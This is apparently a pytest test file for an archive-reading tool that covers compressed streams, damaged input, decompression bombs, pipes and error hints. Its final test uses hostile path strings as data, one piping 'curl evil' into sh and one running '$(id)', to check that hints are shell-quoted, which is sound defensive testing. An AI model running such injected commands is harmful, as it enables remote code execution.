"""An archive's bytes: files, pipes, compressed or not, whole or damaged."""

import bz2
import gzip
import io
import lzma
import os
import shlex
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import IO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from imgload.core.errors import ArchiveInvalid, SourceError, UsageError
from imgload.sources.streams import CHUNK, FileChunks, chunks_of, open_archive
from tests.unit.archives import Image, docker20, pack
from tests.unit.bounds import memory_below, within

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

ARCHIVE = pack(docker20(Image()))
Squeeze = Callable[[bytes], bytes]
SQUEEZED: dict[str, Squeeze] = {
    "gzip": gzip.compress,
    "zstd": zstd.compress,
    "bzip2": bz2.compress,
    "xz": lzma.compress,
}
SIZES = [1, 511, CHUNK - 1, CHUNK, CHUNK + 1, 3 * CHUNK, 3 * CHUNK + 7]


def read(data: bytes, *, scanning: bool = False) -> bytes:
    return b"".join(chunks_of(io.BytesIO(data), scanning=scanning))


@pytest.mark.parametrize("scanning", [False, True])
@pytest.mark.parametrize("form", SQUEEZED)
def test_compression_is_detected_by_content(form: str, *, scanning: bool) -> None:
    """For any file name; `docker save | gzip`, `podman save | zstd`."""
    assert read(SQUEEZED[form](ARCHIVE), scanning=scanning) == ARCHIVE
    assert read(ARCHIVE, scanning=scanning) == ARCHIVE


@pytest.mark.parametrize("form", SQUEEZED)
def test_an_archive_can_be_read_more_than_once(form: str) -> None:
    """First for its documents, then for its layers."""
    file = io.BytesIO(SQUEEZED[form](ARCHIVE))
    for scanning in (True, False, False):
        assert b"".join(chunks_of(file, scanning=scanning)) == ARCHIVE


@pytest.mark.parametrize("form", SQUEEZED)
@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("kind", ["zeros", "noise"])
def test_streams_of_any_size_are_decompressed(form: str, size: int, kind: str) -> None:
    """Also if input and output end at the end of a chunk."""
    data = bytes(size) if kind == "zeros" else os.urandom(size)
    chunks = list(chunks_of(io.BytesIO(SQUEEZED[form](data)), scanning=False))
    assert b"".join(chunks) == data
    assert max(map(len, chunks)) <= CHUNK


@given(st.lists(st.binary(max_size=200), min_size=1, max_size=5), st.sampled_from(list(SQUEEZED)))
def test_concatenated_streams_are_one(parts: list[bytes], form: str) -> None:
    """As pigz, pzstd and `cat a.gz b.gz` write them."""
    assert read(b"".join(map(SQUEEZED[form], parts))) == b"".join(parts)


@pytest.mark.parametrize("form", ["gzip", "bzip2", "xz"])
@pytest.mark.parametrize("size", [4, 512, 100_000])
def test_zeros_after_a_stream_are_padding(form: str, size: int) -> None:
    """Tapes and block devices add them; gzip and bzip2 ignore them, and xz specifies them."""
    assert read(SQUEEZED[form](ARCHIVE) + bytes(size)) == ARCHIVE


def test_padding_after_gzip_takes_no_memory() -> None:
    """A sparse file can have any amount of it."""
    data = gzip.compress(ARCHIVE) + bytes(12 << 20)
    with memory_below(8 << 20):
        assert sum(map(len, chunks_of(io.BytesIO(data), scanning=False))) == len(ARCHIVE)


@pytest.mark.parametrize("form", SQUEEZED)
def test_a_stream_that_is_cut_off_is_invalid(form: str) -> None:
    """Wherever: a download that stopped must not look like a smaller image."""
    data = SQUEEZED[form](os.urandom(300))
    for length in range(4, len(data)):
        with pytest.raises(ArchiveInvalid, match=f"{form} stream"):
            read(data[:length])


@pytest.mark.parametrize("form", SQUEEZED)
def test_a_stream_that_is_damaged_is_invalid(form: str) -> None:
    """gzip has a checksum; zstd's is optional, its structure is not."""
    data = bytearray(SQUEEZED[form](os.urandom(4000)))
    data[6:9] = b"\xff\xff\xff"
    data[-4:] = b"\xff\xff\xff\xff"
    with pytest.raises(ArchiveInvalid, match=f"the archive's {form} stream is"):
        read(bytes(data))


@pytest.mark.parametrize("form", SQUEEZED)
def test_garbage_after_a_stream_is_invalid(form: str) -> None:
    with pytest.raises(ArchiveInvalid):
        read(SQUEEZED[form](ARCHIVE) + b"garbage")


MAGICS = [b"\x1f\x8b", b"\x28\xb5\x2f\xfd", b"\x50\x2a\x4d\x18", b"BZh9", b"\xfd7zXZ\0"]


@given(st.sampled_from(MAGICS), st.binary(max_size=80))
def test_any_bytes_after_a_magic_number_raise_only_our_errors(magic: bytes, data: bytes) -> None:
    """Or are decompressed, if they are valid."""
    with suppress(ArchiveInvalid):
        read(magic + data)


@pytest.mark.parametrize("data", [b"", b"\x1f", b"x", b"\x28\xb5\x2f", *map(bytes, (3, 600))])
def test_uncompressed_bytes_are_unchanged(data: bytes) -> None:
    assert read(data) == data


@pytest.mark.parametrize("form", SQUEEZED)
def test_a_decompression_bomb_takes_bounded_memory(form: str) -> None:
    """A thousand times the file's size, one chunk at a time."""
    bomb = SQUEEZED[form](bytes(64 << 20))
    assert len(bomb) < 1 << 20
    with within(5), memory_below(12 << 20):  # xz's dictionary has 8 MiB
        assert sum(map(len, chunks_of(io.BytesIO(bomb), scanning=False))) == 64 << 20


def test_skip_seeks() -> None:
    """A scan reads nothing of a layer."""

    class Counting(io.BytesIO):
        taken = 0

        def read(self, size: int | None = -1, /) -> bytes:
            data = super().read(size)
            self.taken += len(data)
            return data

    file = Counting(b"a" * 10 + bytes(8 << 20) + b"z" * 10)
    chunks = FileChunks(file, 10)
    pieces = iter(chunks)
    assert next(pieces) == b"a" * 10
    chunks.skip(8 << 20)
    assert list(pieces) == [b"z" * 10]
    assert file.taken == 20


def test_skip_past_the_end_ends_the_chunks() -> None:
    """A truncated file does not fail here."""
    chunks = FileChunks(io.BytesIO(b"abc"), 1)
    chunks.skip(100)
    assert list(chunks) == []


@pytest.mark.parametrize("path", ["absent", "folder", "plain/below"])
def test_an_unreadable_path_is_a_usage_error(tmp_path: Path, path: str) -> None:
    """With the path, and the system's reason."""
    (tmp_path / "folder").mkdir()
    (tmp_path / "plain").touch()
    with pytest.raises(UsageError, match=r"cannot read .*: \w+") as caught:
        open_archive(str(tmp_path / path))
    assert str(tmp_path / path) in caught.value.message


def test_a_file_is_not_copied(tmp_path: Path) -> None:
    (tmp_path / "a.tar").write_bytes(ARCHIVE)
    with open_archive(str(tmp_path / "a.tar")) as file:
        assert b"".join(chunks_of(file, scanning=False)) == ARCHIVE


@contextmanager
def pipe_of(data: bytes) -> Iterator[IO[bytes]]:
    """Yield the end of a pipe into which the data is written."""
    reading, writing = os.pipe()

    def fill() -> None:
        with suppress(BrokenPipeError), os.fdopen(writing, "wb") as end:
            end.write(data)

    threading.Thread(target=fill, daemon=True).start()
    with os.fdopen(reading, "rb") as end:
        yield end


def use_as_stdin(monkeypatch: pytest.MonkeyPatch, file: IO[bytes]) -> None:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(file))


@pytest.mark.parametrize("data", [ARCHIVE, *(f(ARCHIVE) for f in SQUEEZED.values())])
def test_a_pipe_can_be_read_more_than_once(monkeypatch: pytest.MonkeyPatch, data: bytes) -> None:
    """`podman save app | imgload load --from -`, compressed or not."""
    with pipe_of(data) as pipe:
        use_as_stdin(monkeypatch, pipe)
        with open_archive("-") as file:
            for scanning in (True, False):
                assert b"".join(chunks_of(file, scanning=scanning)) == ARCHIVE


def test_a_pipe_is_copied_to_a_file(monkeypatch: pytest.MonkeyPatch) -> None:
    """An unnamed file, not memory."""
    with pipe_of(bytes(16 << 20)) as pipe:
        use_as_stdin(monkeypatch, pipe)
        with memory_below(6 << 20), open_archive("-") as file:
            assert file.seek(0, os.SEEK_END) == 16 << 20


def test_standard_input_from_a_file_is_not_copied(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`imgload load --from - <app.tar`."""
    (tmp_path / "a.tar").write_bytes(ARCHIVE)
    with (tmp_path / "a.tar").open("rb") as file:
        use_as_stdin(monkeypatch, file)
        assert open_archive("-") is file
        assert b"".join(chunks_of(file, scanning=False)) == ARCHIVE


def test_a_terminal_as_standard_input_is_a_usage_error(monkeypatch: pytest.MonkeyPatch) -> None:
    """The user forgot the pipe; the hint shows it."""
    leader, follower = os.openpty()
    with os.fdopen(leader, "rb"), os.fdopen(follower, "rb", buffering=0) as terminal:
        use_as_stdin(monkeypatch, io.BufferedReader(terminal))
        with within(2), pytest.raises(UsageError, match="terminal") as caught:
            open_archive("-")
    assert "docker save" in caught.value.hint


def test_closed_standard_input_is_a_usage_error(monkeypatch: pytest.MonkeyPatch) -> None:
    """`imgload load --from - <&-`, or under a service manager: then sys.stdin is None."""
    monkeypatch.setattr(sys, "stdin", None)
    with pytest.raises(UsageError):
        open_archive("-")


@pytest.mark.skipif(not Path("/dev/fd").exists(), reason="needs /dev/fd")
@pytest.mark.parametrize("data", [ARCHIVE, gzip.compress(ARCHIVE)])
def test_a_pipe_with_a_path_is_read_more_than_once(data: bytes) -> None:
    """`imgload load --from <(docker save app)`: the shell hands over /dev/fd/63."""
    with pipe_of(data) as pipe, open_archive(f"/dev/fd/{pipe.fileno()}") as file:
        for scanning in (True, False):
            assert b"".join(chunks_of(file, scanning=scanning)) == ARCHIVE


class Metered(io.BytesIO):
    """A file that counts what is read of it."""

    taken = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.taken += len(data)
        return data


@pytest.mark.parametrize("form", SQUEEZED)
@pytest.mark.parametrize("content", [b"", b"x"])
def test_the_number_of_empty_parts_is_bounded(form: str, content: bytes) -> None:
    """Each takes time; 100 MB of empty gzip members took minutes."""
    file = Metered(SQUEEZED[form](content) * 200_000)
    with pytest.raises(ArchiveInvalid, match="almost no content"):
        for _ in chunks_of(file, scanning=True):
            pass
    assert file.taken <= 2 * CHUNK


PARTS = [(form, size) for form in ("gzip", "zstd") for size in (600, 4096, 60_000)]


@pytest.mark.parametrize(("form", "size"), [*PARTS, ("bzip2", 60_000), ("xz", 60_000)])
def test_an_archive_of_many_parts_is_read(form: str, size: int) -> None:
    """bgzip and pzstd write blocks of some KiB, and an empty one at the end."""
    data = os.urandom(1 << 20) * (12 if size == 600 else 2)
    parts = [SQUEEZED[form](data[at : at + size]) for at in range(0, len(data), size)]
    assert read(b"".join([*parts, SQUEEZED[form](b"")])) == data


@pytest.mark.parametrize("padding", [0, 1, 511, CHUNK, 3 * CHUNK + 1])
def test_zeros_between_and_after_gzip_members_are_skipped(padding: int) -> None:
    """Tapes and some tools pad to whole blocks."""
    member = gzip.compress(ARCHIVE)
    assert read((member + bytes(padding)) * 2) == 2 * ARCHIVE


def in_window(log: int, size: int) -> bytes:
    options: dict[int, int] = {
        zstd.CompressionParameter.window_log: log,
        zstd.CompressionParameter.compression_level: 1,
        zstd.CompressionParameter.content_size_flag: 0,
    }
    compressor = zstd.ZstdCompressor(options=options)
    parts = [compressor.compress(bytes(size)), compressor.flush()]
    return b"".join(parts)


@pytest.mark.parametrize("log", [17, 23, 27])
def test_a_zstd_window_up_to_128_mib_is_accepted(log: int) -> None:
    """`zstd --long` writes the largest, and `zstd -d` accepts it without an option."""
    assert read(in_window(log, 100_000)) == bytes(100_000)


def test_a_larger_zstd_window_is_refused_with_a_hint() -> None:
    """The window determines the memory; `zstd -d` requires --long for it, too."""
    with pytest.raises(ArchiveInvalid, match="128 MiB") as caught:
        read(in_window(28, 100_000))
    assert "zstd -d --long=31" in caught.value.hint


def test_a_larger_xz_dictionary_is_refused_with_a_hint() -> None:
    """The dictionary determines the memory; `xz -9` has 64 MiB."""
    filters = [{"id": lzma.FILTER_LZMA2, "preset": 0, "dict_size": 256 << 20}]
    with pytest.raises(ArchiveInvalid, match="128 MiB") as caught:
        read(lzma.compress(bytes(1000), filters=filters))
    assert "xz -dc" in caught.value.hint


@pytest.mark.parametrize("kind", range(16))
def test_zstd_frames_without_content_are_skipped(kind: int) -> None:
    """Skippable frames (RFC 8878, 3.1.2), as pzstd writes before each of its own."""
    skippable = bytes([0x50 + kind]) + b"\x2a\x4d\x18\x04\x00\x00\x00abcd"
    packed = zstd.compress(ARCHIVE)
    assert read(packed + skippable + packed) == 2 * ARCHIVE
    assert read(skippable + packed) == ARCHIVE


@pytest.mark.parametrize("form", SQUEEZED)
@pytest.mark.parametrize("lacking", [1, 5, 20])
def test_a_stream_that_is_cut_off_is_refused(form: str, lacking: int) -> None:
    """Also where only the checksum is lacking."""
    with pytest.raises(ArchiveInvalid):
        read(SQUEEZED[form](ARCHIVE)[:-lacking])


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="it is a device of Linux")
@pytest.mark.parametrize("size", [1, CHUNK + 4096])
def test_a_full_disk_raises_source_error_at_any_write(
    monkeypatch: pytest.MonkeyPatch, size: int
) -> None:
    """The last bytes of a piped archive are written by the flush."""
    monkeypatch.setattr(tempfile, "TemporaryFile", lambda **_: Path("/dev/full").open("w+b"))  # noqa: SIM115
    reading, writing = os.pipe()
    writer = threading.Thread(target=_write, args=(writing, size))
    writer.start()
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(os.fdopen(reading, "rb")))
    with pytest.raises(SourceError) as caught:
        open_archive("-")
    sys.stdin.close()
    writer.join()
    assert "No space left" in caught.value.message
    assert caught.value.hint


def _write(descriptor: int, size: int) -> None:
    with suppress(BrokenPipeError), os.fdopen(descriptor, "wb") as pipe:
        pipe.write(bytes(size))


def test_no_temporary_folder_raises_source_error(monkeypatch: pytest.MonkeyPatch) -> None:
    reading, writing = os.pipe()
    os.close(writing)
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(os.fdopen(reading, "rb")))
    monkeypatch.setenv("TMPDIR", "/nonexistent")
    with pytest.raises(SourceError):
        open_archive("-")


@pytest.mark.parametrize("path", ["a\0b", "nosuch; curl evil|sh #.tar", "no such/$(id)"])
def test_a_path_that_cannot_be_opened_is_quoted_in_the_hint(path: str) -> None:
    """The hint is a command to paste."""
    with pytest.raises(UsageError) as caught:
        open_archive(path)
    assert shlex.split(caught.value.hint.replace("\N{REPLACEMENT CHARACTER}", "\0"))[-1] == path
